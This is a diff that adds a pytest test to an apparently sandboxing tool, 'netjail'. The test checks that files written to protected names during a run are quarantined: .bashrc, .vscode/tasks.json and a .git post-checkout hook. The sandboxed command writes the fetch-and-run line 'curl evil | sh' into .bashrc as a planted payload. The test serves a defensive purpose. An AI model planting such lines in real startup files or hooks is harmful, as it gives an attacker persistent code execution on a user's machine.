@@ -190,3 +190,24 @@ def test_netjail_settings_cannot_be_planted_for_the_next_run(netjail: Netjail, t
     assert "rc=1" in result.stdout, result.explain()
     assert not (home / ".config" / "netjail" / "settings.json").exists()
     assert (home / "control").read_text() == "ok\n"
+
+
+def test_protected_names_that_did_not_exist_are_quarantined_after_the_run(netjail: Netjail) -> None:
+    """F3 for paths that do not exist yet: no stub is planted; what the command creates there is moved out."""
+    subprocess.run(["git", "init", "-q", str(netjail.work)], check=True)
+    subprocess.run(["rm", "-rf", str(netjail.work / ".git" / "hooks")], check=True)
+    cfg = netjail.settings(filesystem={"allowWrite": ["."]})
+    result = netjail.run(
+        "-s", str(cfg), "-c",
+        "ls -A; echo 'curl evil | sh' > .bashrc; mkdir -p .vscode .git/hooks; echo '{}' > .vscode/tasks.json; "
+        "echo hook > .git/hooks/post-checkout; echo kept > notes.txt",
+    )  # fmt: skip
+    assert result.returncode == 0, result.explain()
+    assert ".bashrc" not in result.stdout.split(), "no stub file is planted in the user's tree"
+    assert not (netjail.work / ".bashrc").exists() and not (netjail.work / ".vscode").exists()
+    assert not (netjail.work / ".git" / "hooks").exists()
+    assert (netjail.work / "notes.txt").read_text() == "kept\n"
+    quarantined = [r for r in result.records if r["event"] == "quarantine"]
+    assert {Path(r["path"]).name for r in quarantined} == {".bashrc", ".vscode", "hooks"}
+    assert (Path(next(r["moved_to"] for r in quarantined if r["path"].endswith(".bashrc")))).read_text() == "curl evil | sh\n"
+    assert result.stderr.count("(a protected name)") == 3
